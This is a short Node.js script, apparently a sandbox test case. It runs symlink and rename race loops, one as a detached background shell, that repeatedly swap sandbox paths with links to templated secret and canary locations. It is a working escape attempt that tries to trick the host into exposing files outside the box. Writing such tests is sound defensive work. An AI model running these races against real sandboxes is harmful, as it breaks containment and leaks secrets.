const fs = require("node:fs");
const { execFileSync, spawn } = require("node:child_process");

fs.writeSync(1, "attempt\n");
// Names change what they are all the time, from before the end until after it.
fs.mkdirSync("/box/real");
fs.symlinkSync("@CANARY_DIR@", "/box/link");
fs.symlinkSync("@SECRET@", "/box/secret");
fs.writeFileSync("/box/file", "");
execFileSync("/usr/bin/mkfifo", ["/box/fifo"]);
const more = "while :; do mv -T --exchange /box/real /box/link; mv -T --exchange /box/main.js /box/secret; done";
spawn("/bin/sh", ["-c", more], { stdio: "ignore", detached: true }).unref();
const swap = (one, other) => {
  // Node has no exchange: by way of a third name.
  for (const [from, to] of [[one, "/box/third"], [other, one], ["/box/third", other]]) try { fs.renameSync(from, to); } catch {}
};
for (const end = Date.now() + 2000; Date.now() < end;) {
  swap("/box/real", "/box/link");
  swap("/box/file", "/box/fifo");
  swap("/box/main.js", "/box/secret");
}
